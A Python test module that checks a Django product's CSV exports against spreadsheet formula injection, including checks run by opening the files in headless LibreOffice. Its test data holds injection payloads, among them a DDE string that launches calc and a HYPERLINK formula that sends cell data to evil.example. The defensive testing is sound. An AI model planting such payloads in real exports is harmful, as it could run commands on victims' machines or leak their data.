"""Files for spreadsheets: whoever wrote what is in them, no cell of them is run.

What people can write is written into everything that is exported, then each export is read as
spreadsheets do, whatever separates cells there. In full size LibreOffice itself opens the files.
"""

import csv
import io
import itertools
import re
import shutil
import subprocess
import xml.etree.ElementTree as ElementTree
from pathlib import Path

import pytest
from django.utils import timezone

from accounts.activity import record
from accounts.models import LoginHistory, User
from billing.models import Invoice, LedgerEntry
from botsmith.lib.csv import csv_text
from botsmith.mongodb.collections import as_document, collection
from tests.adminpanel.cast import console, staff_member
from tests.billing.buying import change
from tests.bots.inbox_cast import talk
from tests.cast import bot_of, on_plan, person, signed_in
from tests.proof.counting import counted, sized

pytestmark = [
    pytest.mark.django_db(transaction=True),
    # The test's client is no ASGI server.
    pytest.mark.filterwarnings("ignore:StreamingHttpResponse must consume async"),
]

SIGNS = "=+-@＝＋－＠"
SPACES = [
    "", " ", "\t", "\r", "\n", "\r\n", "\0", "\v", "\f", "\x1c", "\x1f", "\x85", "\u00a0", "\u2028",
    "\u3000", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u202e", "\ue000", "'", '"', "''",
]  # fmt: skip
BEFORE = ["", "hi", "hi;", "hi,", "hi\t", "hi\n", 'hi";"', 'hi",', "hi\r\n", "hi|", "hi\x1f", "7;"]
RUNS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "SUM(1)*2", "A1"]
CASES = [f"{b}{s}{sign}{run}" for b, s, sign, run in itertools.product(BEFORE, SPACES, SIGNS, RUNS)]
SEPARATORS = {",": 44, ";": 59, "\t": 9}
EASY = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠A",
    " =1", "\u00a0=1", "a;=1", "a,=1", "a\t=1", "a\n=1", 'a";=cmd|"/C calc"!A0', '"=1', "a; ＝1",
)  # fmt: skip


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_form_of_a_formula_is_one(separator):
    """Each form in a cell, read as a file that another sign separates."""
    file = csv_text([[number, text, "end"] for number, text in enumerate(CASES)])
    read = csv.reader(io.StringIO(file, newline=""), delimiter=separator)
    run = [cell for row in read for cell in row if begins_a_formula(cell)]
    naive = [cell for line in re.split("[\r\n]+", file) for cell in line.split(separator)]
    run += [cell for cell in naive if begins_a_formula(cell.strip(" ").removeprefix('"'))]
    counted("D7", forms=len(CASES), separator=repr(separator), evaluated=len(run))
    assert run == []


def begins_a_formula(cell: str) -> bool:
    """As spreadsheets see it that take spaces away before."""
    return cell.strip(" \u00a0\u3000").startswith(tuple(SIGNS))


# --- Every export of the product ---------------------------------------------------------------


def exports(text: str) -> dict[str, str]:
    """Each file of each export, when everybody called themselves so."""
    user = on_plan(person("Eve"), "enterprise")
    admin = console(staff_member())
    bot = bot_of(user, name="Eve's helper")
    collection(type(bot)).update_one({"id": bot.pk}, {"$set": {"name": text}})
    talk(bot, text, text, user_name=text, user_email=text, stars=1)
    change(person("Dora"), "starter")
    collection(Invoice).update_many({}, {"$set": {"buyer": text, "reference": text}})
    spent = {"user_id": user.pk, "chatbot_id": bot.pk, "chatbot_name": text, "model": text}
    collection(LedgerEntry).insert_one(as_document(LedgerEntry(**spent, provider="openai")))
    record(user, "renamed_chatbot", bot, details=text)
    for success in (True, False):
        LoginHistory.objects.create(user=user, user_agent=text, method=text, success=success)
    named = {"name": text, "company": text, "job_title": text, "tags": [text]}
    collection(User).update_one({"id": user.pk}, {"$set": named})
    own, month = signed_in(user), timezone.now().strftime("%Y-%m")
    files = {
        f"conversations/{name}": own.get(f"/bots/{bot.pk}/conversations/export/{name}")
        for name in ("conversations.csv", "messages.csv")
    }
    files["analytics"] = own.get(f"/bots/{bot.pk}/analytics/export/")
    files["spending"] = own.get(f"/billing/spending/export/?month={month}")
    files["activity"] = sent(own, "/account/activity/export/")
    for name in ("logs/logins", "logs/activity", "money/invoices", "people"):
        files[name] = sent(admin, f"/adminpanel/{name}/export/")
    assert {name: each.status_code for name, each in files.items() if each.status_code != 200} == {}
    return {name: b"".join(each).decode("utf-8-sig") for name, each in files.items()}


def sent(client, path: str):
    """Some exports are asked for by a form."""
    answer = client.get(path)
    return client.post(path, {"scope": "all"}) if answer.status_code == 405 else answer


@pytest.mark.parametrize("text", EASY[:: sized(4, 1)])
def test_no_export_holds_a_formula(text):
    files, run, held = exports(text), [], 0
    for name, file in files.items():
        for separator in SEPARATORS:
            rows = list(csv.reader(io.StringIO(file, newline=""), delimiter=separator))
            run += [(name, cell) for row in rows for cell in row if is_run(cell)]
        held += plain(text) in plain(file)
    counted("D7", exports=len(files), holding_the_text=held, evaluated=len(run))
    assert run == [] and held >= 5


def is_run(cell: str) -> bool:
    """A number may be below zero."""
    try:
        float(cell)
    except ValueError:
        return begins_a_formula(cell)
    return False


def plain(text: str) -> str:
    return "".join(sign for sign in text if sign.isalnum() or sign in SIGNS)


# --- LibreOffice -------------------------------------------------------------------------------


@pytest.mark.full_size
@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_runs_no_cell_and_reads_them_all(separator, tmp_path):
    """Of a file with every form, opened as if this sign separated its cells."""
    texts = [text for text in CASES if "\r" not in text]
    rows = [[number, text] for number, text in enumerate(texts)]
    formulas, cells = opened(csv_text(rows), separator, tmp_path)
    counted("D7", forms=len(rows), libreoffice_separator=repr(separator), evaluated=len(formulas),
            cells=len(cells))  # fmt: skip
    assert formulas == [] and len(cells) >= len(rows)
    if separator == ",":
        written = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
        differing = [row for row in written if as_kept(row[1]) not in cells]
        assert differing[:9] == []


@pytest.mark.full_size
@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_runs_no_cell_of_any_export(separator, tmp_path):
    run = {}
    for name, file in exports("hi;=1+1\n@SUM(1),\t=2").items():
        formulas, _ = opened(file, separator, tmp_path)
        run |= {name: formulas} if formulas else {}
    counted("D7", libreoffice_separator=repr(separator), exports_evaluated=len(run))
    assert run == {}


def opened(file: str, separator: str, folder: Path) -> tuple[list[str], set[str]]:
    """The formulas that LibreOffice made of a file, and the texts of its cells."""
    office = shutil.which("soffice")
    assert office, (
        "LibreOffice opens the files: apt-get install --no-install-recommends libreoffice-calc"
    )
    (folder / "file.csv").write_text("\ufeff" + file, newline="")
    command = [
        office, f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to",
        "fods", f"--infilter=CSV:{SEPARATORS[separator]},34,76,1", "--outdir", folder,
        folder / "file.csv",
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    tree = ElementTree.parse(folder / "file.fods")
    formulas, texts = [], set()
    for cell in tree.iter():
        if not cell.tag.endswith("}table-cell"):
            continue
        formulas += [value for name, value in cell.attrib.items() if name.endswith("}formula")]
        lines = ["".join(spelt(each)) for each in cell if each.tag.endswith("}p")]
        texts.add(as_kept("\n".join(lines)))
    return formulas, texts


def spelt(paragraph):
    """A paragraph's letters; OpenDocument writes spaces and tabs as elements."""
    yield paragraph.text or ""
    for each in paragraph:
        name = each.tag.rpartition("}")[2]
        counts = [int(value) for key, value in each.attrib.items() if key.endswith("}c")]
        yield {"s": " " * (counts or [1])[0], "tab": "\t", "line-break": "\n"}.get(name, "")
        yield each.text or ""
        yield each.tail or ""


def as_kept(text: str) -> str:
    """Without what XML cannot hold, and tabs, which LibreOffice leaves out at a line's end."""
    return "".join(sign for sign in text if sign == "\n" or sign >= " ")
